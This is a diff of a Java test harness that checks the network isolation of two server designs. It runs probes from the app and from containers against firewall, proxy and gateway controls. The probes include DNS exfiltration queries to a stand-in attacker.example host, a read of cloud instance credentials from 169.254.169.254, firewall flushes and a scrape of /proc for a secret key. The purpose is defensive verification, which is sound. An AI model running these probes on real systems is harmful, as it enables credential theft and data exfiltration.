@@ -24,12 +24,13 @@ import java.util.Map;
  * internet. Each check says what each design should make of it and why; where Enclave departs
  * from the seed's list on purpose, the reason says so.
  *
- * <p>Seed-design expectations are recorded with the checks (from issue 7) although only the
- * Enclave design is built so far.
+ * <p>The seed design keeps Enclave's gateway in front of the app (the seed's nginx, Basic auth and
+ * fail2ban are not rebuilt), so its ingress rows are the gateway's; its app side is the seed's own.
  */
 public final class LabChecks {
     static final String ENCLAVE = LabDesign.ENCLAVE.name();
     static final String SEED = "seed";
+    private static final String SEED_GATEWAY = "the lab keeps Enclave's gateway in front of the seed's app side (the seed: ";
     private static final String DNS_DEVIATION = "deliberate deviation from the seed's list: the proxy resolves names; DNS is an exfiltration channel";
     private static final ObjectMapper JSON = new ObjectMapper();
 
@@ -96,32 +97,41 @@ public final class LabChecks {
                 LabChecks::dnsExfiltration));
         c.add(new LabCheck("metadata", "read instance credentials from 169.254.169.254", From.APP,
                 Map.of(ENCLAVE, fails("the firewall drops the metadata address first; the proxy refuses link-local addresses"),
-                        SEED, works("from a container: the FORWARD path is not filtered")),
+                        SEED, fails("from the host itself: OUTPUT policy DROP (from a container it passes: container.metadata)")),
                 LabChecks::metadata));
+        c.add(new LabCheck("container.google", "from a container behind the app host (Docker's bridge and masquerade): https://google.com", From.APP,
+                Map.of(ENCLAVE, fails("the firewall's forward chain (policy drop) stops the container's traffic as output stops the host's"),
+                        SEED, works("restrict_network.sh filters OUTPUT only; a container's packets take FORWARD")),
+                lab -> fromContainer(lab, "https://google.com/", "google.com (lab)")));
+        c.add(new LabCheck("container.metadata", "from a container behind the app host: read instance credentials from 169.254.169.254", From.APP,
+                Map.of(ENCLAVE, fails("the forward chain drops the metadata address first"),
+                        SEED, works("FORWARD is not filtered; the NAT takes the container to the metadata service")),
+                lab -> fromContainer(lab, "http://" + LabAddresses.METADATA + "/latest/meta-data/iam/security-credentials/enclave-lab-role",
+                        FakeInternet.METADATA_SECRET)));
         c.add(new LabCheck("firewall.flush", "the app's user flushes the firewall rules", From.APP,
                 Map.of(ENCLAVE, fails("the app's user has no CAP_NET_ADMIN (setpriv, no new privileges)"),
-                        SEED, works("the app user runs sudo")),
-                LabChecks::flush));
+                        SEED, works("the app user runs sudo (sudo iptables -F OUTPUT)")),
+                LabChecks::flush, true));
         // Ingress, from the internet.
         c.add(new LabCheck("ingress.app-direct", "reach the app's port (" + LabAddresses.APP + ":" + LabAddresses.APP_PORT + ") directly", From.INTERNET,
                 Map.of(ENCLAVE, fails("the app accepts connections from the gateway only"),
-                        SEED, fails("the security group admits port 3000 from the proxy only")),
+                        SEED, fails("the security group admits port 3000 from the proxy only (the lab: no new connections in through the NAT host)")),
                 LabChecks::appDirect));
         c.add(new LabCheck("ingress.plain-http", "get the app over plain HTTP from the gateway", From.INTERNET,
                 Map.of(ENCLAVE, fails("the gateway speaks TLS only; plain HTTP gets a redirect"),
-                        SEED, fails("nginx redirects HTTP to HTTPS")),
+                        SEED, fails(SEED_GATEWAY + "nginx redirects HTTP to HTTPS)")),
                 LabChecks::plainHttp));
         c.add(new LabCheck("ingress.no-credentials", "get the app through the gateway without credentials", From.INTERNET,
                 Map.of(ENCLAVE, fails("401 / the login page"),
-                        SEED, fails("Basic auth: 401")),
+                        SEED, fails(SEED_GATEWAY + "nginx Basic auth, 401)")),
                 lab -> gatewayAs(lab, null, null)));
         c.add(new LabCheck("ingress.right-credentials", "get the app through the gateway with the right credentials", From.INTERNET,
                 Map.of(ENCLAVE, works("the gateway proxies to the app"),
-                        SEED, works("nginx proxies to the app")),
+                        SEED, works(SEED_GATEWAY + "nginx proxies to the app)")),
                 lab -> gatewayAs(lab, lab.adminUser(), lab.adminPassword())));
         c.add(new LabCheck("ingress.brute-force", "five wrong passwords, then the right one from the same address", From.INTERNET,
                 Map.of(ENCLAVE, fails("the gateway bans the address after five failures"),
-                        SEED, fails("fail2ban bans the address")),
+                        SEED, fails(SEED_GATEWAY + "fail2ban bans the address)")),
                 LabChecks::bruteForce));
         return List.copyOf(c);
     }
@@ -173,7 +183,7 @@ public final class LabChecks {
                     LabAddresses.LLM_NAME + ":443:" + LabAddresses.LLM_API, "https://" + LabAddresses.LLM_NAME + "/v1/models");
             boolean ok = after.status() == 200 && after.body().contains(FakeInternet.MODEL) && arrivedAt.equals(LabAddresses.LLM_API_MOVED);
             String evidence = "after the move (the resolver answers " + LabAddresses.LLM_API_MOVED + "; " + LabAddresses.LLM_API + " now answers "
-                    + (old.answered() ? "HTTP " + old.status() : old.error()) + "): the relay answered "
+                    + (old.answered() ? "HTTP " + old.status() : old.error()) + "): the app's call to " + base + " got "
                     + (after.answered() ? "HTTP " + after.status() : after.error()) + ", the call arrived at " + arrivedAt;
             return ok ? Observation.worked(evidence) : Observation.failed(evidence);
         } finally {
@@ -182,7 +192,7 @@ public final class LabChecks {
     }
 
     private static Observation dig(LabContext lab) {
-        LabShell.Run r = LabShell.asAppUser(APP_NS, lab.appEnvironment(), 8,
+        LabShell.Run r = LabShell.asApp(lab, 8,
                 List.of("dig", "+time=2", "+tries=1", "@" + LabAddresses.RESOLVER, LabAddresses.LLM_NAME, "A"));
         boolean answered = r.output().contains("ANSWER SECTION") && r.output().contains(LabAddresses.LLM_API);
         String evidence = answered ? "answer: " + LabAddresses.LLM_NAME + " A " + LabAddresses.LLM_API
@@ -193,7 +203,7 @@ public final class LabChecks {
 
     private static Observation ntp(LabContext lab) {
         // One NTP client packet (LI 0, version 3, mode 3, then 47 zero bytes), as ntpdate -q sends.
-        LabShell.Run r = LabShell.asAppUser(APP_NS, lab.appEnvironment(), 8, List.of("sh", "-c",
+        LabShell.Run r = LabShell.asApp(lab, 8, List.of("sh", "-c",
                 "{ printf '\\033'; head -c 47 /dev/zero; } | socat -t 3 - UDP:" + LabAddresses.NTP + ":123 | wc -c"));
         String count = r.output().strip();
         boolean answered = count.matches("\\d+") && Integer.parseInt(count) >= 48;
@@ -203,7 +213,7 @@ public final class LabChecks {
     }
 
     private static Observation ping(LabContext lab) {
-        LabShell.Run r = LabShell.asAppUser(APP_NS, lab.appEnvironment(), 8, List.of("ping", "-n", "-c", "2", "-W", "2", LabAddresses.PUBLIC_DNS));
+        LabShell.Run r = LabShell.asApp(lab, 8, List.of("ping", "-n", "-c", "2", "-W", "2", LabAddresses.PUBLIC_DNS));
         String summary = r.output().lines().filter(l -> l.contains("packets transmitted")).findFirst().orElse(r.lastLine());
         LabShell.Run control = LabShell.root(PUB_NS, 8, "ping", "-n", "-c", "1", "-W", "2", LabAddresses.PUBLIC_DNS);
         String evidence = summary.strip() + " (from enclave-pub: " + (control.ok() ? "answers" : "no answer either") + ")";
@@ -211,9 +221,9 @@ public final class LabChecks {
     }
 
     private static Observation wgetExample(LabContext lab) {
-        LabShell.Run proxy = LabShell.asAppUser(APP_NS, lab.appEnvironment(), 10,
+        LabShell.Run proxy = LabShell.asApp(lab, 10,
                 List.of("wget", "-O", "-", "-T", "3", "-t", "1", "http://example.com/"));
-        LabShell.Run direct = LabShell.asAppUser(APP_NS, lab.appEnvironment(), 10,
+        LabShell.Run direct = LabShell.asApp(lab, 10,
                 List.of("wget", "--no-proxy", "-O", "-", "-T", "3", "-t", "1", "--header", "Host: example.com", "http://" + LabAddresses.EXAMPLE + "/"));
         boolean reached = proxy.output().contains("example.com (lab)") || direct.output().contains("example.com (lab)");
         String evidence = "via the proxy: " + wgetOutcome(proxy) + "; direct to " + LabAddresses.EXAMPLE + ": " + wgetOutcome(direct);
@@ -260,7 +270,7 @@ public final class LabChecks {
         // line. The key is searched for here, never put on the command line (which /proc would show).
         String script = "cat " + lab.keyFile() + " 2>&1; echo; n=0; for f in /proc/[0-9]*/environ /proc/[0-9]*/cmdline; do "
                 + "if cat \"$f\" 2>/dev/null; then n=$((n+1)); fi; echo; done; echo \"@@read $n\"";
-        LabShell.Run r = LabShell.asAppUser(APP_NS, lab.appEnvironment(), 15, List.of("sh", "-c", script));
+        LabShell.Run r = LabShell.asApp(lab, 15, List.of("sh", "-c", script));
         boolean found = r.output().contains(lab.orgKey());
         String keyFileSays = r.output().lines().findFirst().orElse("").strip();
         String read = r.output().lines().filter(l -> l.startsWith("@@read ")).map(l -> l.substring(7)).findFirst().orElse("?");
@@ -285,9 +295,9 @@ public final class LabChecks {
 
     private static Observation dnsExfiltration(LabContext lab) throws IOException {
         String marker = "x" + Long.toHexString(System.nanoTime()) + "secret";
-        LabShell.Run resolver = LabShell.asAppUser(APP_NS, lab.appEnvironment(), 8,
+        LabShell.Run resolver = LabShell.asApp(lab, 8,
                 List.of("dig", "+time=2", "+tries=1", "@" + LabAddresses.RESOLVER, marker + ".a.exfil.attacker.example", "TXT"));
-        LabShell.Run google = LabShell.asAppUser(APP_NS, lab.appEnvironment(), 8,
+        LabShell.Run google = LabShell.asApp(lab, 8,
                 List.of("dig", "+time=2", "+tries=1", "@" + LabAddresses.PUBLIC_DNS, marker + ".b.exfil.attacker.example", "A"));
         Curl.Answer proxy = Curl.asApp(lab, "https://" + marker + ".c.exfil.attacker.example/");
         long seen = Files.exists(lab.dnsLog()) ? Files.readAllLines(lab.dnsLog(), StandardCharsets.UTF_8).stream().filter(l -> l.contains(marker)).count() : 0;
@@ -318,9 +328,27 @@ public final class LabChecks {
         return reached ? Observation.worked(evidence) : Observation.failed(evidence);
     }
 
-    private static Observation flush(LabContext lab) {
-        LabShell.Run flush = LabShell.asAppUser(APP_NS, lab.appEnvironment(), 8, List.of("nft", "flush", "ruleset"));
-        LabShell.Run route = LabShell.asAppUser(APP_NS, lab.appEnvironment(), 8, List.of("ip", "route", "add", "192.0.2.0/24", "dev", "eth0"));
+    private static Observation fromContainer(LabContext lab, String url, String proof) {
+        // As root in the container (Docker's default user), no proxy: a container has none unless given one.
+        String host = url.replaceFirst("^https?://", "").replaceFirst("/.*$", "");
+        List<String> args = new ArrayList<>(List.of("--cacert", lab.caPem().toString()));
+        if (host.equals("google.com")) {
+            args.addAll(List.of("--resolve", "google.com:443:" + LabAddresses.GOOGLE));
+        }
+        args.add(url);
+        Curl.Answer a = Curl.in(LabAddresses.CONTAINER_NS, args.toArray(String[]::new));
+        boolean reached = a.body().contains(proof);
+        String evidence = "from " + LabAddresses.CONTAINER + " (" + LabAddresses.CONTAINER_NS + ") to " + url + ": "
+                + (reached ? "HTTP " + a.status() + (proof.equals(FakeInternet.METADATA_SECRET) ? " with the instance credentials" : " with the site's page") : a.phrase());
+        return reached ? Observation.worked(evidence) : Observation.failed(evidence);
+    }
+
+    private static Observation flush(LabContext lab) throws IOException {
+        if (lab.design().equals(LabDesign.SEED)) {
+            return flushSeed(lab);
+        }
+        LabShell.Run flush = LabShell.asApp(lab, 8, List.of("nft", "flush", "ruleset"));
+        LabShell.Run route = LabShell.asApp(lab, 8, List.of("ip", "route", "add", "192.0.2.0/24", "dev", "eth0"));
         LabShell.Run table = LabShell.root(APP_NS, 8, "nft", "list", "table", "inet", "enclave");
         boolean intact = table.ok() && table.output().contains("policy drop");
         String evidence = "nft flush ruleset: " + (flush.ok() ? "exit 0" : flush.firstLine()) + "; ip route add: "
@@ -329,6 +357,17 @@ public final class LabChecks {
             LabShell.root(null, 8, "ip", "-n", APP_NS, "route", "del", "192.0.2.0/24");
         }
         return flush.ok() || !intact ? Observation.worked(evidence) : Observation.failed(evidence);
+    }
+
+    private static Observation flushSeed(LabContext lab) throws IOException {
+        LabShell.Run flush = LabShell.asApp(lab, 8, List.of("sudo", "-n", "iptables", "-F", "OUTPUT"));
+        LabShell.Run after = LabShell.root(APP_NS, 8, "iptables", "-S", "OUTPUT");
+        long rules = after.output().lines().filter(l -> l.startsWith("-A OUTPUT")).count();
+        String evidence = "as " + lab.appUser() + ": sudo -n iptables -F OUTPUT: " + (flush.ok() ? "exit 0" : flush.lastLine())
+                + "; OUTPUT afterwards: " + rules + " rule(s) (restrict_network.sh's rules " + (rules == 0 ? "are GONE" : "remain") + ")";
+        // Put the seed's rules back for whatever runs after (a second verify).
+        SeedControls.restore(lab.dir());
+        return flush.ok() && rules == 0 ? Observation.worked(evidence) : Observation.failed(evidence);
     }
 
     // --- ingress ---
